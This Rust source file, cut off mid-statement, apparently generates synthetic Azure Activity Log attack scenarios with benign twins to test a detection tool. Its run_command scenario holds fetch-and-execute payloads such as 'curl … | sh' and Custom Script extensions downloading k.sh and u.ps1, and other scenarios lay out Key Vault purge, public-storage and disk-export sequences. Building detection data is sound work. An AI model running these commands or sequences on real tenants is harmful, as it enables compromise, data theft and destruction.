//! Azure Activity Log scenarios for the detection families of issue 17 (Key Vault purges,
//! public storage, Run Command, disk export, network and monitoring deletions, Automation,
//! policy, Defender, locks, AKS, SQL, Recovery Services and privileged role changes), and a
//! benign twin for every Azure scenario, the seven original ones included.
//!
//! An attack is done by a compromised user from a documentation address (`198.51.100.x`) with
//! the dangerous parameters; its twin is the same kind of operation done the routine way: by the
//! platform's pipelines (service principals) or an administrator from the office, on a weekday
//! during business hours, with safe parameters (a narrow scope, a corporate range, soft delete
//! kept, a monitoring extension instead of a script …).

use crate::azure::{app_caller, rid, user_caller, Caller, Op};
use crate::org::{office_of, Org, Subscription, OFFICE_NETS, ORG};
use crate::util::{hex, iso, lower, rng_for, uuid};
use crate::{AzureLog, BenignTwin, Scenario};
use fastrand::Rng;
use serde_json::{json, Value};
use trailwatch_model::Provider;

/// Every Activity Log family with a scenario (original and new).
pub(crate) const FAMILIES: &[&str] = &[
    "network.nsg_open_to_internet",
    "authorization.privileged_role_subscription",
    "monitor.diagnostic_settings_deleted",
    "keyvault.access_policy_secret_reads",
    "storage.keys_listed",
    "compute.vm_unusual_region",
    "monitor.activity_log_alert_deleted",
    "keyvault.delete_purge",
    "keyvault.backup",
    "storage.public_access",
    "storage.shared_key_enabled",
    "storage.https_only_disabled",
    "storage.sas_user_delegation_key",
    "storage.soft_delete_versioning_disabled",
    "storage.immutability_policy_deleted",
    "storage.keys_regenerated",
    "compute.run_command",
    "compute.custom_script_extension",
    "compute.disk_snapshot_export",
    "compute.vm_disk_snapshot_deleted",
    "network.firewall_vnet_watcher_deleted",
    "network.vnet_peering_cross_tenant",
    "network.packet_capture",
    "automation.runbook_webhook",
    "policy.assignment_deleted_exemption",
    "defender.plan_downgraded",
    "defender.auto_provisioning_off",
    "defender.alert_suppression_rule",
    "monitor.action_group_deleted",
    "monitor.log_analytics_workspace_deleted",
    "lock.deleted",
    "resources.resource_group_deleted",
    "aks.admin_credentials",
    "sql.firewall_open_to_all",
    "sql.auditing_disabled",
    "backup.protection_stopped",
    "authorization.elevate_access",
    "authorization.custom_role_wildcard",
];

/// Families of the seven original scenarios, in `AZURE_SCENARIOS` order.
pub(crate) const ORIGINAL_FAMILIES: &[&[&str]] = &[
    &["network.nsg_open_to_internet"],
    &["authorization.privileged_role_subscription"],
    &["monitor.diagnostic_settings_deleted"],
    &["keyvault.access_policy_secret_reads"],
    &["storage.keys_listed"],
    &["compute.vm_unusual_region"],
    &["monitor.activity_log_alert_deleted"],
];

/// The routine actor of a twin.
#[derive(Clone, Copy)]
enum Actor {
    /// An administrator from the office (a user who is never an attack victim).
    Admin,
    /// One of the organisation's automation service principals (`org.az_apps`): 0 GitHub
    /// Actions deploy, 1 Terraform platform, 2 AKS autoscaler, 3 backup automation.
    App(usize),
}

type Steps = fn(&mut Script<'_>);

/// A benign twin's recipe.
struct Twin {
    actor: Actor,
    description: &'static str,
    steps: Steps,
}

/// A new family scenario's recipe.
struct Family {
    name: &'static str,
    technique: &'static str,
    description: &'static str,
    families: &'static [&'static str],
    attack: Steps,
    twin: Twin,
}

/// Operations of one scenario or twin, one after the other.
pub(crate) struct Script<'a> {
    org: &'a Org,
    sub_i: usize,
    caller: Caller,
    t: i64,
    rng: Rng,
    ops: Vec<Op>,
}

impl<'a> Script<'a> {
    fn new(org: &'a Org, sub_i: usize, caller: Caller, t: i64, rng: Rng) -> Self {
        Script {
            org,
            sub_i,
            caller,
            t,
            rng,
            ops: Vec::new(),
        }
    }

    fn sub(&self) -> &'a Subscription {
        &self.org.subs[self.sub_i]
    }

    fn sub_scope(&self) -> String {
        format!("/subscriptions/{}", self.sub().id)
    }

    fn rg_scope(&self, rg: usize) -> String {
        format!(
            "/subscriptions/{}/resourceGroups/{}",
            self.sub().id,
            self.sub().groups[rg].0
        )
    }

    /// Resource id of `provider_path` in resource group `rg`.
    fn id(&self, rg: usize, provider_path: &str) -> String {
        rid(self.sub(), rg, provider_path)
    }

    fn loc(&self, rg: usize) -> &'static str {
        self.sub().groups[rg].1
    }

    /// One operation on `provider_path` in resource group `rg`, 5–60 s after the previous one.
    fn op(
        &mut self,
        rg: usize,
        provider_path: &str,
        operation: &str,
        method: &'static str,
        body: Option<Value>,
    ) {
        let id = self.id(rg, provider_path);
        let loc = self.loc(rg);
        self.op_at(&id, loc, operation, method, body);
    }

    /// One operation on the absolute resource id `resource_id`.
    fn op_at(
        &mut self,
        resource_id: &str,
        location: &str,
        operation: &str,
        method: &'static str,
        body: Option<Value>,
    ) {
        self.t += self.rng.i64(5..60);
        let op = Op {
            t: self.t,
            frac: self.rng.u32(..10_000_000),
            sub_i: self.sub_i,
            resource_id: resource_id.to_string(),
            operation: operation.to_string(),
            category: "Administrative",
            caller: self.caller.clone(),
            correlation: uuid(&mut self.rng),
            location: location.to_string(),
            ok: true,
            method,
            status_code: match method {
                "PUT" => "Created",
                "DELETE" => "OK",
                _ if operation.ends_with("/action") => "Accepted",
                _ => "OK",
            },
            body: body.map(|b| b.to_string()),
            duration_ms: self.rng.i64(200..4000),
            level: "Information",
        };
        self.ops.push(op);
    }

    fn uuid(&mut self) -> String {
        uuid(&mut self.rng)
    }

    /// The caller's own /24, as a CIDR (the office range of an administrator).
    fn caller_range(&self) -> String {
        let ip = &self.caller.ip;
        match ip.rsplit_once('.') {
            Some((net, _)) => format!("{net}.0/24"),
            None => ip.clone(),
        }
    }
}

fn role_definition(sub: &str, guid: &str) -> String {
    format!("/subscriptions/{sub}/providers/Microsoft.Authorization/roleDefinitions/{guid}")
}

fn role_assignment(s: &mut Script<'_>, scope: &str, role_guid: &str, principal_type: &str) {
    let ra = s.uuid();
    let assignee = s.uuid();
    let body = json!({"Id": ra, "Properties": {"PrincipalId": assignee, "PrincipalType": principal_type,
        "RoleDefinitionId": role_definition(&s.sub().id, role_guid), "Scope": scope}});
    let id = format!("{scope}/providers/Microsoft.Authorization/roleAssignments/{ra}");
    s.op_at(
        &id,
        "global",
        "Microsoft.Authorization/roleAssignments/write",
        "PUT",
        Some(body),
    );
}

const CONTRIBUTOR: &str = "b24988ac-6180-42a0-ab88-20f7382dd24c";
const USER_ACCESS_ADMIN: &str = "18d7d88d-d35e-4fb5-a5c3-7773c20a72d9";
const READER: &str = "acdd72a7-3385-48ef-bd42-f606fba81ae7";

// --- the twins of the seven original scenarios ------------------------------------------------

const ORIGINAL_TWINS: &[Twin] = &[
    Twin {
        actor: Actor::Admin,
        description: "An administrator opens HTTPS (443) from the office range on a web NSG.",
        steps: |s| {
            let nsg = s.sub().nsgs[0].1.clone();
            let body = json!({"properties": {"protocol": "Tcp", "sourcePortRange": "*", "destinationPortRange": "443",
                "sourceAddressPrefix": s.caller_range(), "destinationAddressPrefix": "*", "access": "Allow",
                "priority": 310, "direction": "Inbound"}});
            s.op(
                0,
                &format!("Microsoft.Network/networkSecurityGroups/{nsg}/securityRules/allow-https-office"),
                "Microsoft.Network/networkSecurityGroups/securityRules/write",
                "PUT",
                Some(body),
            );
        },
    },
    Twin {
        actor: Actor::Admin,
        description: "An administrator grants Reader on one resource group to a colleague.",
        steps: |s| {
            let scope = s.rg_scope(1);
            role_assignment(s, &scope, READER, "User");
        },
    },
    Twin {
        actor: Actor::App(1),
        description:
            "The Terraform pipeline updates the subscription diagnostic setting (adds categories).",
        steps: |s| {
            let id = format!(
                "{}/providers/microsoft.insights/diagnosticSettings/activity-to-storage",
                s.sub_scope()
            );
            let st = s.id(
                s.sub().storage[2].0,
                &format!("Microsoft.Storage/storageAccounts/{}", s.sub().storage[2].1),
            );
            let logs: Vec<Value> = [
                "Administrative",
                "Security",
                "Policy",
                "Alert",
                "ServiceHealth",
            ]
            .iter()
            .map(|c| json!({"category": c, "enabled": true}))
            .collect();
            s.op_at(
                &id,
                "global",
                "microsoft.insights/diagnosticSettings/write",
                "PUT",
                Some(json!({"properties": {"storageAccountId": st, "logs": logs}})),
            );
        },
    },
    Twin {
        actor: Actor::App(1),
        description:
            "The Terraform pipeline grants an application's managed identity get on secrets.",
        steps: |s| {
            let (g, kv) = s.sub().vaults[0].clone();
            let tenant = s.org.tenant_id.clone();
            let mi = s.uuid();
            let body = json!({"properties": {"accessPolicies": [{"tenantId": tenant, "objectId": mi,
                "permissions": {"secrets": ["get"], "keys": [], "certificates": []}}]}});
            s.op(
                g,
                &format!("Microsoft.KeyVault/vaults/{kv}/accessPolicies/add"),
                "Microsoft.KeyVault/vaults/accessPolicies/write",
                "PUT",
                Some(body),
            );
        },
    },
    Twin {
        actor: Actor::App(3),
        description:
            "The backup automation lists the keys of the log storage account it copies from.",
        steps: |s| {
            let (g, st) = s.sub().storage[2].clone();
            s.op(
                g,
                &format!("Microsoft.Storage/storageAccounts/{st}"),
                "Microsoft.Storage/storageAccounts/listKeys/action",
                "POST",
                None,
            );
        },
    },
    Twin {
        actor: Actor::App(1),
        description: "The Terraform pipeline creates an ordinary web VM in the usual region.",
        steps: |s| {
            let body = json!({"location": "westeurope", "properties": {"hardwareProfile": {"vmSize": "Standard_D4s_v5"}}});
            s.op(
                0,
                "Microsoft.Compute/virtualMachines/vm-web-07",
                "Microsoft.Compute/virtualMachines/write",
                "PUT",
                Some(body),
            );
        },
    },
    Twin {
        actor: Actor::Admin,
        description: "The monitoring administrator updates an activity log alert rule.",
        steps: |s| {
            let scope = s.sub_scope();
            let ag = s.id(
                3,
                &format!("microsoft.insights/actionGroups/ag-{ORG}-oncall"),
            );
            let body = json!({"location": "Global", "properties": {"enabled": true, "scopes": [scope],
                "condition": {"allOf": [{"field": "category", "equals": "Administrative"},
                    {"field": "operationName", "equals": "Microsoft.Network/networkSecurityGroups/securityRules/write"}]},
                "actions": {"actionGroups": [{"actionGroupId": ag}]}}});
            s.op(
                3,
                "microsoft.insights/activityLogAlerts/alert-nsg-changes",
                "microsoft.insights/activityLogAlerts/write",
                "PUT",
                Some(body),
            );
        },
    },
];

// --- the new family scenarios -----------------------------------------------------------------

fn keyvault_purge(s: &mut Script<'_>) {
    let (g, kv) = s.sub().vaults[1].clone();
    let v = format!("Microsoft.KeyVault/vaults/{kv}");
    for sec in ["db-admin-password", "storage-conn-string"] {
        s.op(
            g,
            &format!("{v}/secrets/{sec}"),
            "Microsoft.KeyVault/vaults/secrets/backup/action",
            "POST",
            None,
        );
    }
    s.op(
        g,
        &format!("{v}/keys/tde-key"),
        "Microsoft.KeyVault/vaults/keys/backup/action",
        "POST",
        None,
    );
    for sec in ["db-admin-password", "storage-conn-string"] {
        s.op(
            g,
            &format!("{v}/secrets/{sec}"),
            "Microsoft.KeyVault/vaults/secrets/delete",
            "DELETE",
            None,
        );
        s.op(
            g,
            &format!("{v}/secrets/{sec}"),
            "Microsoft.KeyVault/vaults/secrets/purge/action",
            "POST",
            None,
        );
    }
    s.op(
        g,
        &format!("{v}/keys/tde-key"),
        "Microsoft.KeyVault/vaults/keys/delete",
        "DELETE",
        None,
    );
    s.op(
        g,
        &format!("{v}/keys/tde-key"),
        "Microsoft.KeyVault/vaults/keys/purge/action",
        "POST",
        None,
    );
    let cert = format!("{v}/certificates/wildcard-{ORG}-com");
    s.op(
        g,
        &cert,
        "Microsoft.KeyVault/vaults/certificates/delete",
        "DELETE",
        None,
    );
    s.op(
        g,
        &cert,
        "Microsoft.KeyVault/vaults/certificates/purge/action",
        "POST",
        None,
    );
    s.op(g, &v, "Microsoft.KeyVault/vaults/delete", "DELETE", None);
    let loc = s.loc(g);
    let deleted = format!(
        "{}/providers/Microsoft.KeyVault/locations/{loc}/deletedVaults/{kv}",
        s.sub_scope()
    );
    s.op_at(
        &deleted,
        loc,
        "Microsoft.KeyVault/locations/deletedVaults/purge/action",
        "POST",
        None,
    );
}

fn keyvault_purge_twin(s: &mut Script<'_>) {
    let (g, kv) = s.sub().vaults[0].clone();
    let v = format!("Microsoft.KeyVault/vaults/{kv}");
    // Soft delete stays on: the secret is recoverable for 90 days and nothing is purged.
    s.op(
        g,
        &format!("{v}/secrets/legacy-ftp-password"),
        "Microsoft.KeyVault/vaults/secrets/delete",
        "DELETE",
        None,
    );
    let body =
        json!({"properties": {"contentType": "text/plain", "attributes": {"enabled": true}}});
    s.op(
        g,
        &format!("{v}/secrets/api-signing-key"),
        "Microsoft.KeyVault/vaults/secrets/write",
        "PUT",
        Some(body),
    );
}

fn storage_public(s: &mut Script<'_>) {
    let (g, st) = s.sub().storage[0].clone();
    let acct = format!("Microsoft.Storage/storageAccounts/{st}");
    let w = "Microsoft.Storage/storageAccounts/write";
    let public = json!({"properties": {"allowBlobPublicAccess": true, "publicNetworkAccess": "Enabled",
        "networkAcls": {"bypass": "AzureServices", "defaultAction": "Allow", "ipRules": [], "virtualNetworkRules": []}}});
    s.op(g, &acct, w, "PATCH", Some(public));
    s.op(
        g,
        &acct,
        w,
        "PATCH",
        Some(json!({"properties": {"allowSharedKeyAccess": true}})),
    );
    s.op(g, &acct, w, "PATCH", Some(json!({"properties": {"supportsHttpsTrafficOnly": false, "minimumTlsVersion": "TLS1_0"}})));
    s.op(
        g,
        &format!("{acct}/blobServices/default/containers/exports"),
        "Microsoft.Storage/storageAccounts/blobServices/containers/write",
        "PUT",
        Some(json!({"properties": {"publicAccess": "Container"}})),
    );
    let expiry = iso(s.t + 400 * 86_400);
    let sas = json!({"signedServices": "b", "signedResourceTypes": "sco", "signedPermission": "rwdlacup",
        "signedProtocol": "https,http", "signedExpiry": expiry, "keyToSign": "key1"});
    s.op(
        g,
        &acct,
        "Microsoft.Storage/storageAccounts/listAccountSas/action",
        "POST",
        Some(sas),
    );
    let key = json!({"start": iso(s.t), "expiry": iso(s.t + 7 * 86_400)});
    s.op(
        g,
        &format!("{acct}/blobServices/default"),
        "Microsoft.Storage/storageAccounts/blobServices/generateUserDelegationKey/action",
        "POST",
        Some(key),
    );
}

fn storage_public_twin(s: &mut Script<'_>) {
    let (g, st) = s.sub().storage[0].clone();
    let acct = format!("Microsoft.Storage/storageAccounts/{st}");
    let hardened = json!({"properties": {"allowBlobPublicAccess": false, "allowSharedKeyAccess": false,
        "supportsHttpsTrafficOnly": true, "minimumTlsVersion": "TLS1_2", "publicNetworkAccess": "Disabled",
        "networkAcls": {"bypass": "AzureServices", "defaultAction": "Deny", "ipRules": [], "virtualNetworkRules": []}},
        "tags": {"owner": "platform", "costCenter": "1200"}});
    s.op(
        g,
        &acct,
        "Microsoft.Storage/storageAccounts/write",
        "PATCH",
        Some(hardened),
    );
    s.op(
        g,
        &format!("{acct}/blobServices/default/containers/images"),
        "Microsoft.Storage/storageAccounts/blobServices/containers/write",
        "PUT",
        Some(json!({"properties": {"publicAccess": "None"}})),
    );
    let sas = json!({"canonicalizedResource": format!("/blob/{st}/images"), "signedResource": "c",
        "signedPermission": "r", "signedProtocol": "https", "signedExpiry": iso(s.t + 3600)});
    s.op(
        g,
        &acct,
        "Microsoft.Storage/storageAccounts/listServiceSas/action",
        "POST",
        Some(sas),
    );
}

fn storage_recovery_off(s: &mut Script<'_>) {
    let (g, st) = s.sub().storage[1].clone();
    let acct = format!("Microsoft.Storage/storageAccounts/{st}");
    let off = json!({"properties": {"deleteRetentionPolicy": {"enabled": false},
        "containerDeleteRetentionPolicy": {"enabled": false}, "isVersioningEnabled": false,
        "changeFeed": {"enabled": false}}});
    s.op(
        g,
        &format!("{acct}/blobServices/default"),
        "Microsoft.Storage/storageAccounts/blobServices/write",
        "PUT",
        Some(off),
    );
    s.op(
        g,
        &format!("{acct}/blobServices/default/containers/backups/immutabilityPolicies/default"),
        "Microsoft.Storage/storageAccounts/blobServices/containers/immutabilityPolicies/delete",
        "DELETE",
        None,
    );
    for key in ["key1", "key2"] {
        s.op(
            g,
            &acct,
            "Microsoft.Storage/storageAccounts/regenerateKey/action",
            "POST",
            Some(json!({"keyName": key})),
        );
    }
}

fn storage_recovery_twin(s: &mut Script<'_>) {
    let (g, st) = s.sub().storage[1].clone();
    let acct = format!("Microsoft.Storage/storageAccounts/{st}");
    let on = json!({"properties": {"deleteRetentionPolicy": {"enabled": true, "days": 30},
        "containerDeleteRetentionPolicy": {"enabled": true, "days": 30}, "isVersioningEnabled": true}});
    s.op(
        g,
        &format!("{acct}/blobServices/default"),
        "Microsoft.Storage/storageAccounts/blobServices/write",
        "PUT",
        Some(on),
    );
    s.op(
        g,
        &format!("{acct}/blobServices/default/containers/backups/immutabilityPolicies/default"),
        "Microsoft.Storage/storageAccounts/blobServices/containers/immutabilityPolicies/write",
        "PUT",
        Some(json!({"properties": {"immutabilityPeriodSinceCreationInDays": 30, "allowProtectedAppendWrites": true}})),
    );
}

fn run_command(s: &mut Script<'_>) {
    let (g1, etl) = s.sub().vms[1].clone();
    let script = json!({"commandId": "RunShellScript", "script": ["curl -fsSL http://203.0.113.66/s.sh | sh"]});
    s.op(
        g1,
        &format!("Microsoft.Compute/virtualMachines/{etl}"),
        "Microsoft.Compute/virtualMachines/runCommand/action",
        "POST",
        Some(script),
    );
    let (g0, web) = s.sub().vms[0].clone();
    let linux = json!({"location": s.loc(g0), "properties": {"publisher": "Microsoft.Azure.Extensions",
        "type": "CustomScript", "typeHandlerVersion": "2.1", "autoUpgradeMinorVersion": true,
        "settings": {"fileUris": ["https://203.0.113.66/k.sh"], "commandToExecute": "bash k.sh"}}});
    s.op(
        g0,
        &format!("Microsoft.Compute/virtualMachines/{web}/extensions/customScript"),
        "Microsoft.Compute/virtualMachines/extensions/write",
        "PUT",
        Some(linux),
    );
    let (g3, jump) = s.sub().vms[3].clone();
    let windows = json!({"location": s.loc(g3), "properties": {"publisher": "Microsoft.Compute",
        "type": "CustomScriptExtension", "typeHandlerVersion": "1.10", "autoUpgradeMinorVersion": true,
        "settings": {"fileUris": ["https://203.0.113.66/u.ps1"], "commandToExecute": "powershell -ExecutionPolicy Bypass -File u.ps1"}}});
    s.op(
        g3,
        &format!("Microsoft.Compute/virtualMachines/{jump}/extensions/CustomScriptExtension"),
        "Microsoft.Compute/virtualMachines/extensions/write",
        "PUT",
        Some(windows),
    );
}

fn run_command_twin(s: &mut Script<'_>) {
    for i in [0, 1] {
        let (g, vm) = s.sub().vms[i].clone();
        let ama = json!({"location": s.loc(g), "properties": {"publisher": "Microsoft.Azure.Monitor",
            "type": "AzureMonitorLinuxAgent", "typeHandlerVersion": "1.33", "autoUpgradeMinorVersion": true,
            "enableAutomaticUpgrade": true, "settings": {}}});
        s.op(
            g,
            &format!("Microsoft.Compute/virtualMachines/{vm}/extensions/AzureMonitorLinuxAgent"),
            "Microsoft.Compute/virtualMachines/extensions/write",
            "PUT",
            Some(ama),
        );
    }
}

fn os_disk(s: &Script<'_>, vm: &str) -> String {
    // A stable disk name per VM (the suffix is derived from the subscription id).
    format!("{vm}_OsDisk_1_{}", s.sub().id.replace('-', ""))
}

fn disk_export(s: &mut Script<'_>) {
    let (g, vm) = s.sub().vms[1].clone();
    let disk = s.id(g, &format!("Microsoft.Compute/disks/{}", os_disk(s, &vm)));
    let snap = format!(
        "Microsoft.Compute/snapshots/{vm}-copy-{}",
        lower(&mut s.rng, 5)
    );
    let body = json!({"location": s.loc(g), "properties": {"creationData": {"createOption": "Copy", "sourceResourceId": disk}, "incremental": false}});
    s.op(
        g,
        &snap,
        "Microsoft.Compute/snapshots/write",
        "PUT",
        Some(body),
    );
    let access = json!({"access": "Read", "durationInSeconds": 86_400});
    s.op(
        g,
        &snap,
        "Microsoft.Compute/snapshots/beginGetAccess/action",
        "POST",
        Some(access.clone()),
    );
    s.op(
        g,
        &format!("Microsoft.Compute/disks/{vm}_DataDisk_0"),
        "Microsoft.Compute/disks/beginGetAccess/action",
        "POST",
        Some(access),
    );
}

fn disk_export_twin(s: &mut Script<'_>) {
    let (g, vm) = s.sub().vms[1].clone();
    let disk = s.id(g, &format!("Microsoft.Compute/disks/{}", os_disk(s, &vm)));
    let snap = format!(
        "Microsoft.Compute/snapshots/{vm}-nightly-{}",
        hex(&mut s.rng, 6)
    );
    let body = json!({"location": s.loc(g), "properties": {"creationData": {"createOption": "Copy", "sourceResourceId": disk}, "incremental": true},
        "tags": {"createdBy": "backup-automation", "retention": "7d"}});
    s.op(
        g,
        &snap,
        "Microsoft.Compute/snapshots/write",
        "PUT",
        Some(body),
    );
}

fn destruction(s: &mut Script<'_>) {
    for i in [0, 1] {
        let (g, vm) = s.sub().vms[i].clone();
        s.op(
            g,
            &format!("Microsoft.Compute/virtualMachines/{vm}"),
            "Microsoft.Compute/virtualMachines/delete",
            "DELETE",
            None,
        );
        let disk = os_disk(s, &vm);
        s.op(
            g,
            &format!("Microsoft.Compute/disks/{disk}"),
            "Microsoft.Compute/disks/delete",
            "DELETE",
            None,
        );
        let snap = format!(
            "Microsoft.Compute/snapshots/{vm}-nightly-{}",
            hex(&mut s.rng, 6)
        );
        s.op(
            g,
            &snap,
            "Microsoft.Compute/snapshots/delete",
            "DELETE",
            None,
        );
        let rpc = format!(
            "Microsoft.Compute/restorePointCollections/AzureBackup_{vm}_{}",
            hex(&mut s.rng, 12)
        );
        s.op(
            g,
            &rpc,
            "Microsoft.Compute/restorePointCollections/delete",
            "DELETE",
            None,
        );
    }
}

fn destruction_twin(s: &mut Script<'_>) {
    let pr = s.rng.u32(1200..1900);
    let vm = format!("vm-dev-pr{pr}");
    s.op(
        4,
        &format!("Microsoft.Compute/virtualMachines/{vm}"),
        "Microsoft.Compute/virtualMachines/delete",
        "DELETE",
        None,
    );
    let disk = format!(
        "Microsoft.Compute/disks/{vm}_OsDisk_1_{}",
        hex(&mut s.rng, 32)
    );
    s.op(4, &disk, "Microsoft.Compute/disks/delete", "DELETE", None);
}

fn network_watcher(s: &Script<'_>) -> String {
    format!(
        "{}/resourceGroups/NetworkWatcherRG/providers/Microsoft.Network/networkWatchers/NetworkWatcher_westeurope",
        s.sub_scope()
    )
}

fn network_deleted(s: &mut Script<'_>) {
    s.op(
        3,
        "Microsoft.Network/azureFirewalls/afw-hub",
        "Microsoft.Network/azureFirewalls/delete",
        "DELETE",
        None,
    );
    s.op(
        3,
        "Microsoft.Network/firewallPolicies/afwp-hub",
        "Microsoft.Network/firewallPolicies/delete",
        "DELETE",
        None,
    );
    let nw = network_watcher(s);
    s.op_at(
        &nw,
        "westeurope",
        "Microsoft.Network/networkWatchers/delete",
        "DELETE",
        None,
    );
    s.op(
        1,
        "Microsoft.Network/virtualNetworks/vnet-data-prod",
        "Microsoft.Network/virtualNetworks/delete",
        "DELETE",
        None,
    );
}

fn network_deleted_twin(s: &mut Script<'_>) {
    let pr = s.rng.u32(1200..1900);
    s.op(
        4,
        &format!("Microsoft.Network/virtualNetworks/vnet-dev-pr{pr}"),
        "Microsoft.Network/virtualNetworks/delete",
        "DELETE",
        None,
    );
    let rules = json!({"properties": {"priority": 300, "ruleCollections": [{"ruleCollectionType": "FirewallPolicyFilterRuleCollection",
        "name": "allow-web-to-data", "action": {"type": "Allow"}, "priority": 310, "rules": [{"ruleType": "NetworkRule",
        "name": "web-to-data-https", "ipProtocols": ["TCP"], "sourceAddresses": ["10.20.0.0/16"],
        "destinationAddresses": ["10.30.0.0/16"], "destinationPorts": ["443"]}]}]}});
    s.op(
        3,
        "Microsoft.Network/firewallPolicies/afwp-hub/ruleCollectionGroups/rcg-app",
        "Microsoft.Network/firewallPolicies/ruleCollectionGroups/write",
        "PUT",
        Some(rules),
    );
}

fn peering_capture(s: &mut Script<'_>) {
    let foreign = s.uuid();
    let remote = format!("/subscriptions/{foreign}/resourceGroups/rg-net/providers/Microsoft.Network/virtualNetworks/vnet-transit");
    let peering = json!({"properties": {"remoteVirtualNetwork": {"id": remote}, "allowVirtualNetworkAccess": true,
        "allowForwardedTraffic": true, "allowGatewayTransit": false, "useRemoteGateways": false}});
    s.op(
        3,
        "Microsoft.Network/virtualNetworks/vnet-hub/virtualNetworkPeerings/peer-transit",
        "Microsoft.Network/virtualNetworks/virtualNetworkPeerings/write",
        "PUT",
        Some(peering),
    );
    let (g, vm) = s.sub().vms[1].clone();
    let target = s.id(g, &format!("Microsoft.Compute/virtualMachines/{vm}"));
    let st = format!("stdiag{}", lower(&mut s.rng, 8));
    let capture = json!({"properties": {"target": target, "bytesToCapturePerPacket": 0, "totalBytesPerSession": 1_073_741_824u64,
        "timeLimitInSeconds": 18_000, "storageLocation": {
            "storageId": format!("/subscriptions/{foreign}/resourceGroups/rg-net/providers/Microsoft.Storage/storageAccounts/{st}"),
            "storagePath": format!("https://{st}.blob.core.windows.net/network-watcher-logs")}, "filters": []}});
    let pc = format!(
        "{}/packetCaptures/pc-{}",
        network_watcher(s),
        lower(&mut s.rng, 6)
    );
    s.op_at(
        &pc,
        "westeurope",
        "Microsoft.Network/networkWatchers/packetCaptures/write",
        "PUT",
        Some(capture),
    );
}

fn peering_capture_twin(s: &mut Script<'_>) {
    let other = &s.org.subs[(s.sub_i + 1) % s.org.subs.len()];
    let remote = format!("/subscriptions/{}/resourceGroups/rg-web-prod/providers/Microsoft.Network/virtualNetworks/vnet-web-prod", other.id);
    let peering = json!({"properties": {"remoteVirtualNetwork": {"id": remote}, "allowVirtualNetworkAccess": true,
        "allowForwardedTraffic": false, "allowGatewayTransit": true, "useRemoteGateways": false}});
    s.op(
        3,
        "Microsoft.Network/virtualNetworks/vnet-hub/virtualNetworkPeerings/peer-hub-to-web",
        "Microsoft.Network/virtualNetworks/virtualNetworkPeerings/write",
        "PUT",
        Some(peering),
    );
    let (g, vm) = s.sub().vms[0].clone();
    let target = s.id(g, &format!("Microsoft.Compute/virtualMachines/{vm}"));
    let (sg, st) = s.sub().storage[2].clone();
    let capture = json!({"properties": {"target": target, "bytesToCapturePerPacket": 128, "totalBytesPerSession": 52_428_800,
        "timeLimitInSeconds": 300, "storageLocation": {
            "storageId": s.id(sg, &format!("Microsoft.Storage/storageAccounts/{st}")),
            "storagePath": format!("https://{st}.blob.core.windows.net/network-watcher-logs")},
        "filters": [{"protocol": "TCP", "localPort": "443"}]}});
    let pc = format!(
        "{}/packetCaptures/pc-tls-debug-{}",
        network_watcher(s),
        lower(&mut s.rng, 4)
    );
    s.op_at(
        &pc,
        "westeurope",
        "Microsoft.Network/networkWatchers/packetCaptures/write",
        "PUT",
        Some(capture),
    );
}

fn automation(s: &mut Script<'_>) {
    let aa = format!("Microsoft.Automation/automationAccounts/aa-{ORG}-ops");
    let rb = format!("{aa}/runbooks/Sync-Inventory");
    let create = json!({"location": s.loc(3), "properties": {"runbookType": "PowerShell72", "logProgress": false,
        "logVerbose": false, "description": ""}});
    s.op(
        3,
        &rb,
        "Microsoft.Automation/automationAccounts/runbooks/write",
        "PUT",
        Some(create),
    );
    s.op(
        3,
        &format!("{rb}/draft/content"),
        "Microsoft.Automation/automationAccounts/runbooks/draft/write",
        "PUT",
        None,
    );
    s.op(
        3,
        &rb,
        "Microsoft.Automation/automationAccounts/runbooks/publish/action",
        "POST",
        None,
    );
    let hook = json!({"name": "inventory-hook", "properties": {"isEnabled": true, "expiryTime": iso(s.t + 3650 * 86_400),
        "runbook": {"name": "Sync-Inventory"}, "parameters": {}}});
    s.op(
        3,
        &format!("{aa}/webhooks/inventory-hook"),
        "Microsoft.Automation/automationAccounts/webhooks/write",
        "PUT",
        Some(hook),
    );
    let job = s.uuid();
    s.op(
        3,
        &format!("{aa}/jobs/{job}"),
        "Microsoft.Automation/automationAccounts/jobs/write",
        "PUT",
        Some(json!({"properties": {"runbook": {"name": "Sync-Inventory"}, "parameters": {}}})),
    );
}

fn automation_twin(s: &mut Script<'_>) {
    let rb = format!(
        "Microsoft.Automation/automationAccounts/aa-{ORG}-ops/runbooks/Stop-DevVMs-Nightly"
    );
    s.op(
        3,
        &format!("{rb}/draft/content"),
        "Microsoft.Automation/automationAccounts/runbooks/draft/write",
        "PUT",
        None,
    );
    s.op(
        3,
        &rb,
        "Microsoft.Automation/automationAccounts/runbooks/publish/action",
        "POST",
        None,
    );
}

fn policy(s: &mut Script<'_>) {
    let scope = s.sub_scope();
    let pa = format!(
        "{scope}/providers/Microsoft.Authorization/policyAssignments/deny-storage-public-access"
    );
    s.op_at(
        &pa,
        "global",
        "Microsoft.Authorization/policyAssignments/delete",
        "DELETE",
        None,
    );
    let mg = s.org.mgmt_group.clone();
    let body = json!({"properties": {"policyAssignmentId": format!("/providers/Microsoft.Management/managementGroups/{mg}/providers/Microsoft.Authorization/policyAssignments/azure-security-benchmark"),
        "exemptionCategory": "Waiver", "displayName": "ops waiver", "description": "", "expiresOn": null}});
    let ex = format!("{scope}/providers/Microsoft.Authorization/policyExemptions/ops-waiver");
    s.op_at(
        &ex,
        "global",
        "Microsoft.Authorization/policyExemptions/write",
        "PUT",
        Some(body),
    );
}

fn policy_twin(s: &mut Script<'_>) {
    let rg = s.rg_scope(0);
    let body = json!({"properties": {"displayName": "Require costCenter tag", "enforcementMode": "Default",
        "policyDefinitionId": "/providers/Microsoft.Authorization/policyDefinitions/871b6d14-10aa-478d-b590-94f262ecfa99",
        "parameters": {"tagName": {"value": "costCenter"}}}});
    let pa =
        format!("{rg}/providers/Microsoft.Authorization/policyAssignments/require-tag-costcenter");
    s.op_at(
        &pa,
        "global",
        "Microsoft.Authorization/policyAssignments/write",
        "PUT",
        Some(body),
    );
    let mg = s.org.mgmt_group.clone();
    let app = s.id(0, "Microsoft.Web/sites/app-web-prod");
    let body = json!({"properties": {"policyAssignmentId": format!("/providers/Microsoft.Management/managementGroups/{mg}/providers/Microsoft.Authorization/policyAssignments/azure-security-benchmark"),
        "policyDefinitionReferenceIds": ["webAppRestrictAccess"], "exemptionCategory": "Mitigated",
        "displayName": "WAF in front of app-web-prod", "description": "Compensating control: Front Door WAF. Change CHG-4411.",
        "expiresOn": iso(s.t + 30 * 86_400)}});
    s.op_at(
        &format!("{app}/providers/Microsoft.Authorization/policyExemptions/waf-mitigated"),
        "global",
